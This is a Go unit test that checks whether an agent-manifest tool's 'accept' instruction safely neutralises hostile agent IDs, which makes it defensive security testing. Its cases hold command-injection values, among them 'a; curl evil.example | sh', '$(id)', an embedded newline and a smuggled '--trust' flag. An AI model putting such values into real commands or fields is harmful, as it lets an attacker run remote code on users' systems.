package reach

import (
	"strings"
	"testing"

	"github.com/aaep-go/aaep/manifest"
)

// What an agent calls itself cannot make a command of its own out of what a person is told to type.
func TestHowToAcceptIsHarmless(t *testing.T) {
	for _, c := range []struct{ file, id, want string }{
		{"keys/known-2.json", "urn:acme:planner@2", "keys/known-2.json urn:acme:planner@2"},
		{"my known.json", "planner", "FILE planner"},
		{"known.json", "a; curl evil.example | sh", "known.json AGENT_ID"},
		{"known.json", "$(id)", "known.json AGENT_ID"},
		{"known.json", "a\nb", "known.json AGENT_ID"},
		{"known.json", "--trust", "known.json AGENT_ID"},
		{"known.json", "", "known.json AGENT_ID"},
	} {
		key := strings.Repeat("k", 43)
		says := HowToAccept(&manifest.KeyChangedError{AgentID: c.id, File: c.file, Presented: key})
		if _, got, _ := strings.Cut(says, "type: "); got != "aaep manifest accept "+c.want+" "+key {
			t.Errorf("%q: %s", c.id, got)
		}
	}
}
